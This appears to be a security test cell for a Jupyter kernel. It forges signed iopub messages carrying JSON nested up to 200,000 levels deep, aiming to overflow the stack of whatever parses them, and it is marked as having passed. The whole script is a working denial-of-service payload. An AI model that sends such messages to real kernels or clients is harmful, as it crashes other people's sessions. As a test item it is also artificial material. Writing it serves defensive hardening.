# ruff: noqa
# mypy: ignore-errors
# idea: send the driver messages nested so deep that taking them apart overflows its stack
# origin: own
# verdicts: after=passed

# %% exercise attack
kernel = get_ipython().kernel
session = kernel.session
for depth in (300, 450, 490, 600, 900, 990, 5000, 200_000):
    for opening, closing in ((b"[", b"]"), (b'{"a":', b"}")):
        inner = opening * depth + b"1" + closing * depth
        for kind, content in {
            "display_data": b'{"data": {"application/json": ' + inner + b', "text/plain": "x"}, "metadata": {}}',
            "execute_result": b'{"data": {"text/plain": "x"}, "metadata": {"x": ' + inner + b'}, "execution_count": 1}',
            "error": b'{"ename": "x", "evalue": "y", "traceback": [' + inner + b"]}",
            "status": b'{"execution_state": ' + inner + b"}",
        }.items():
            message = session.msg(kind, content={}, parent=kernel.get_parent())
            parts = [session.pack(message["header"]), session.pack(message["parent_header"]), session.pack({}), content]
            kernel.iopub_thread.socket.send_multipart([kind.encode(), b"<IDS|MSG>", session.sign(parts), *parts])
finished = True

# %% test after
assert finished
